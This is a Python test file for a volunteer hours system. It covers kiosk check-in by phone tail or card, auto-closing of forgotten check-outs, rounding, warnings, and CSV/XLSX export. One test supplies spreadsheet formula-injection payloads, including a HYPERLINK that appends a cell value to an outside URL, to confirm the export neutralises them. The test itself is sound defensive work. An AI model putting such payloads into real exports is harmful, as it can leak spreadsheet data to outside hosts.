"""Kiosk check-in/out, forgotten check-outs, the ledger's status moves, rounding, warnings, export."""

from __future__ import annotations

import contextlib
import csv
import datetime as dt
import zipfile
from decimal import Decimal
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook

from desktop.errors import ConflictError, NotFound, PermissionDenied, ValidationError
from desktop.services.context import ServiceContext
from desktop.services.volunteers.hours import (
    confirm_attendance,
    hours_summary,
    ledger,
    mark_reported,
    review_attendance,
    set_break,
    void_attendance,
)
from desktop.services.volunteers.hours_export import export_confirmed_hours
from desktop.services.volunteers.kiosk import (
    KIOSK_ACTOR,
    check_in_or_out,
    close_forgotten_checkouts,
    identify_by_card,
    identify_by_phone_tail,
)
from desktop.services.volunteers.register import search_volunteers, set_volunteer_status, volunteer_card_text
from desktop.services.volunteers.roster import ShiftInput, create_shift
from desktop.services.volunteers.rota_plan import save_rota
from desktop.services.volunteers.settings import (
    STATION_TZ,
    IssuerSettings,
    set_hours_rounding,
    set_issuer_settings,
)
from tests.unit.volunteers.conftest import ID_A, add_volunteer

DAY = dt.date(2026, 10, 12)


def at(hhmm: str, day: dt.date = DAY) -> dt.datetime:
    return dt.datetime.combine(day, dt.time.fromisoformat(hhmm), STATION_TZ)


def _on_shift(coord: ServiceContext, vid: str, start: str = "09:00", end: str = "11:30") -> str:
    shift = create_shift(coord, ShiftInput(day=DAY, start_time=start, end_time=end, title="前台接待", capacity=3))
    save_rota(coord, {shift: [vid]})
    return shift


def test_kiosk_by_phone_tail_checks_in_on_the_shift_and_out(coord: ServiceContext) -> None:
    vid = add_volunteer(coord, "张三丰", "13812345678")
    _on_shift(coord, vid)
    kiosk = coord.as_actor(KIOSK_ACTOR)
    (match,) = identify_by_phone_tail(kiosk, "5678", now=at("08:50"))
    assert match.masked_name == "张**" and not match.checked_in and match.shift_label == "前台接待 09:00–11:30"
    arrived = check_in_or_out(kiosk, vid, now=at("08:55"))
    assert arrived.action == "in"
    assert identify_by_phone_tail(kiosk, "5678", now=at("10:00"))[0].checked_in
    left = check_in_or_out(kiosk, vid, now=at("11:40"))
    assert left.action == "out" and left.minutes == 165
    (row,) = ledger(coord, DAY, DAY).rows
    assert row.activity == "前台接待" and row.minutes == 165 and row.status == "draft" and not row.auto_closed


def test_kiosk_repeat_scans_record_nothing_and_short_check_outs_wait_for_a_yes(coord: ServiceContext) -> None:
    vid = add_volunteer(coord, "张三丰", "13812345678")
    kiosk = coord.as_actor(KIOSK_ACTOR)
    assert check_in_or_out(kiosk, vid, now=at("09:00")).action == "in"
    again = check_in_or_out(kiosk, vid, now=at("09:04"))
    assert (again.action, again.repeated, again.at) == ("repeat", "in", at("09:00"))
    short = check_in_or_out(kiosk, vid, now=at("09:10"))
    assert (short.action, short.minutes) == ("confirm", 10)
    assert ledger(coord, DAY, DAY).rows[0].check_out is None  # nothing recorded without the yes
    left = check_in_or_out(kiosk, vid, now=at("09:12"), short_ok=True)
    assert (left.action, left.minutes) == ("out", 12)
    after = check_in_or_out(kiosk, vid, now=at("09:16"))
    assert (after.action, after.repeated, after.at) == ("repeat", "out", at("09:12"))
    assert check_in_or_out(kiosk, vid, now=at("09:17")).action == "in"  # a new visit after REPEAT_SCAN
    assert len(ledger(coord, DAY, DAY).rows) == 2


def test_kiosk_tail_disambiguation_shows_masked_names_only(coord: ServiceContext) -> None:
    add_volunteer(coord, "欧阳娜娜", "13700001234")
    add_volunteer(coord, "李四", "13900001234")
    left = add_volunteer(coord, "王五", "13600001234")
    set_volunteer_status(coord, left, "left")
    matches = identify_by_phone_tail(coord.as_actor(KIOSK_ACTOR), "1234")
    assert sorted(m.masked_name for m in matches) == ["李*", "欧阳**"]
    assert identify_by_phone_tail(coord.as_actor(KIOSK_ACTOR), "0000") == ()
    with pytest.raises(ValidationError):
        identify_by_phone_tail(coord.as_actor(KIOSK_ACTOR), "12")


def test_kiosk_by_card_and_refuses_a_forged_card(coord: ServiceContext) -> None:
    vid = add_volunteer(coord, "周九", "13500005555")
    kiosk = coord.as_actor(KIOSK_ACTOR)
    card = volunteer_card_text(coord, vid)
    assert identify_by_card(kiosk, card.lower() + "\n").volunteer_id == vid  # Caps Lock, trailing Enter
    forged = card[:-1] + ("A" if card[-1] != "A" else "B")
    with pytest.raises(ValidationError) as raised:
        identify_by_card(kiosk, forged)
    assert raised.value.code == "kiosk.card_invalid"
    set_volunteer_status(coord, vid, "paused")
    with pytest.raises(ConflictError):
        identify_by_card(kiosk, card)


def test_kiosk_actor_cannot_read_the_register(coord: ServiceContext) -> None:
    kiosk = coord.as_actor(KIOSK_ACTOR)
    with pytest.raises(PermissionDenied):
        search_volunteers(kiosk, "")
    with pytest.raises(PermissionDenied):
        ledger(kiosk, DAY, DAY)
    from desktop.services.casework.clients import search_clients

    with pytest.raises(PermissionDenied):
        search_clients(kiosk, "")


def test_forgotten_check_out_is_closed_at_shift_end_flagged_and_not_counted(coord: ServiceContext) -> None:
    vid = add_volunteer(coord, "孙七", "13600003333")
    _on_shift(coord, vid)
    kiosk = coord.as_actor(KIOSK_ACTOR)
    check_in_or_out(kiosk, vid, now=at("09:00"))
    assert close_forgotten_checkouts(kiosk, now=at("11:00")) == 0  # shift still running
    assert close_forgotten_checkouts(kiosk, now=at("12:00")) == 0  # may still check out a little late
    assert close_forgotten_checkouts(kiosk, now=at("18:00")) == 1
    (row,) = ledger(coord, DAY, DAY).rows
    assert row.auto_closed and row.needs_review and row.check_out == at("11:30") and row.minutes == 150
    with pytest.raises(ConflictError) as raised:
        confirm_attendance(coord, [row.id])
    assert raised.value.code == "hours.needs_review"
    (line,) = hours_summary(coord, DAY, DAY)
    assert (line.minutes, line.flagged) == (0, 1)
    # The coordinator corrects the check-out (left at 11:00), then confirms: now it counts.
    reviewed = review_attendance(coord, row.id, check_out=at("11:00"))
    assert reviewed.minutes == 120 and not reviewed.needs_review
    confirm_attendance(coord, [row.id])
    (line,) = hours_summary(coord, DAY, DAY)
    assert (line.minutes, line.hours, line.flagged) == (120, Decimal("2.0"), 0)


def test_next_check_in_closes_yesterdays_forgotten_walk_in(coord: ServiceContext) -> None:
    vid = add_volunteer(coord, "冯一", "13800000009")
    kiosk = coord.as_actor(KIOSK_ACTOR)
    check_in_or_out(kiosk, vid, now=at("14:00"))  # walk-in, no shift
    result = check_in_or_out(kiosk, vid, now=at("09:00", DAY + dt.timedelta(days=1)))
    assert result.action == "in"
    rows = ledger(coord, DAY, DAY + dt.timedelta(days=1)).rows
    assert [r.auto_closed for r in rows] == [True, False] and rows[0].minutes == 0


def _closed_entry(coord: ServiceContext, vid: str, start: str, end: str, day: dt.date = DAY) -> str:
    kiosk = coord.as_actor(KIOSK_ACTOR)
    check_in_or_out(kiosk, vid, now=at(start, day))
    check_in_or_out(kiosk, vid, now=at(end, day))
    return next(r.id for r in ledger(coord, day, day, volunteer_id=vid).rows if r.check_in == at(start, day))


def test_status_moves_breaks_and_rounding(coord: ServiceContext) -> None:
    vid = add_volunteer(coord, "陈二", "13800000010")
    entry = _closed_entry(coord, vid, "09:00", "10:44")  # 104 minutes
    set_break(coord, entry, 15)  # 89 minutes of service
    assert ledger(coord, DAY, DAY).rows[0].minutes == 89
    assert ledger(coord, DAY, DAY).rows[0].hours == Decimal("1.0")  # default: down to 0.5 h
    confirm_attendance(coord, [entry])
    assert hours_summary(coord, DAY, DAY)[0].hours == Decimal("1.0")
    set_hours_rounding(coord, "0.25")
    assert hours_summary(coord, DAY, DAY)[0].hours == Decimal("1.25")
    set_hours_rounding(coord, "none")
    assert hours_summary(coord, DAY, DAY)[0].hours == Decimal("1.48")
    assert hours_summary(coord, DAY, DAY)[0].minutes == 89  # raw minutes kept
    with pytest.raises(ValidationError):
        set_hours_rounding(coord, "1")
    with pytest.raises(ConflictError):
        set_break(coord, entry, 0)  # confirmed: no more edits
    with pytest.raises(ValidationError):
        mark_reported(coord, [entry], DAY - dt.timedelta(days=1))
    mark_reported(coord, [entry], DAY + dt.timedelta(days=3))
    row = ledger(coord, DAY, DAY).rows[0]
    assert row.status == "reported" and row.reported_on == DAY + dt.timedelta(days=3)
    with pytest.raises(ValidationError):
        void_attendance(coord, entry, "  ")
    void_attendance(coord, entry, "重复登记")
    assert ledger(coord, DAY, DAY).rows[0].void_reason == "重复登记"
    assert hours_summary(coord, DAY, DAY) == ()


def test_warnings_for_long_days_and_overlaps(coord: ServiceContext) -> None:
    vid = add_volunteer(coord, "褚三", "13800000011")
    _closed_entry(coord, vid, "06:00", "19:00")
    warnings = ledger(coord, DAY, DAY).warnings
    assert [w.kind for w in warnings] == ["over_12h"]


def test_overlap_warning_after_a_review(coord: ServiceContext) -> None:
    vid = add_volunteer(coord, "卫四", "13800000012")
    kiosk = coord.as_actor(KIOSK_ACTOR)
    next_day = DAY + dt.timedelta(days=1)
    check_in_or_out(kiosk, vid, now=at("09:00"))  # walk-in, never checked out
    check_in_or_out(kiosk, vid, now=at("10:00", next_day))  # closes yesterday's entry (flagged)
    check_in_or_out(kiosk, vid, now=at("12:00", next_day))
    flagged = next(r for r in ledger(coord, DAY, DAY).rows if r.needs_review)
    # A wrong correction (the next day's date) makes two entries overlap: a warning, not an error.
    review_attendance(coord, flagged.id, check_out=at("11:00", next_day))
    warnings = ledger(coord, DAY, next_day).warnings
    assert "overlap" in [w.kind for w in warnings]
    assert all("卫四" not in w.message for w in warnings)  # no personal data in warnings


def test_export_for_the_volunteer_website(coord: ServiceContext, tmp_path: Path) -> None:
    vid = add_volunteer(coord, "张三丰", "13812345678", id_number=ID_A, volunteer_no="31010400000001")
    confirmed = _closed_entry(coord, vid, "09:00", "11:00")
    _closed_entry(coord, vid, "14:00", "15:00")  # stays draft: not exported
    confirm_attendance(coord, [confirmed])
    result = export_confirmed_hours(coord, DAY, DAY, tmp_path / "hours.csv")
    with (tmp_path / "hours.csv").open(encoding="utf-8-sig") as handle:
        rows = list(csv.reader(handle))
    assert rows[0] == ["姓名", "证件号", "志愿者编号", "项目名称", "日期", "时长"]
    assert rows[1:] == [["张三丰", "110***********002X", "31010400000001", "志愿服务", "2026-10-12", "2.0"]]
    assert result.rows == 1 and result.attendance_ids == (confirmed,)
    export_confirmed_hours(coord, DAY, DAY, tmp_path / "hours.xlsx", reveal_id=True)
    sheet = load_workbook(tmp_path / "hours.xlsx").active
    values = [[cell.value for cell in row] for row in sheet.iter_rows()]
    assert values[1][0] == "张三丰" and values[1][1] == ID_A and values[1][5] == 2.0
    with pytest.raises(ValidationError):
        export_confirmed_hours(coord, DAY, DAY, tmp_path / "hours.pdf")


@pytest.mark.parametrize("project", ['=HYPERLINK("http://x"&B2,"点击")', "+1", "-1", "@SUM(A1)", "\t=1+2", "\r=1+2"])
def test_hours_export_writes_formula_like_text_as_text(coord: ServiceContext, tmp_path: Path, project: str) -> None:
    vid = add_volunteer(coord, "张三丰", "13812345678", id_number=ID_A, volunteer_no="31010400000001")
    confirm_attendance(coord, [_closed_entry(coord, vid, "09:00", "11:00")])
    set_issuer_settings(coord, IssuerSettings("某街道社工站", "王五", "021-12345678", project))
    export_confirmed_hours(coord, DAY, DAY, tmp_path / "hours.csv")
    with (tmp_path / "hours.csv").open(encoding="utf-8-sig") as handle:
        assert list(csv.reader(handle))[1][3] == "'" + project.strip()
    export_confirmed_hours(coord, DAY, DAY, tmp_path / "hours.xlsx")
    cell = load_workbook(tmp_path / "hours.xlsx").active["D2"]
    assert (cell.value, cell.data_type) == (project.strip(), "s")
    with zipfile.ZipFile(tmp_path / "hours.xlsx") as book:
        assert "<f>" not in book.read("xl/worksheets/sheet1.xml").decode()


@given(st.text(max_size=40))
@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
def test_kiosk_input_never_fails_unexpectedly(coord: ServiceContext, text: str) -> None:
    kiosk = coord.as_actor(KIOSK_ACTOR)
    for identify in (identify_by_phone_tail, identify_by_card):
        with contextlib.suppress(ValidationError, NotFound, ConflictError):
            identify(kiosk, text)
